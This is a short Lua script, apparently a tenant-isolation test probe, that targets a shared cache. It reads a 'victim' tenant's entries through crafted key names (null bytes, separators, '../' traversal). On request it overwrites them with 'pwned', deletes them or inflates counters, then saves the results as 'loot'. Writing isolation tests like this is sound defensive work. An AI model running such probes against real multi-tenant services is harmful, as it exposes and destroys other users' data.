-- Class 5: the victim's cache entries by their names, and by names that might reach into its
-- namespace: read them and, with ?op=, overwrite, delete or count them up.
local op = request.query.op
local keys = {"secret", "counter", "b.test\0secret", "b.test\0counter", "b.test:secret", "b.test/secret",
  "../b.test/secret"}
local seen = {}
for _, k in ipairs(keys) do
  local ok, v = pcall(cache.get, k)
  seen[#seen + 1] = k:gsub("%z", "\\0") .. " = " .. (ok and json.encode(v) or "error")
  if op == "set" then
    pcall(cache.set, k, "pwned")
  elseif op == "delete" then
    pcall(cache.delete, k)
  elseif op == "incr" then
    pcall(cache.incr, k, 1000)
  end
end
local all = table.concat(seen, "\n")
pcall(cache.set, "loot", all)
print(all)
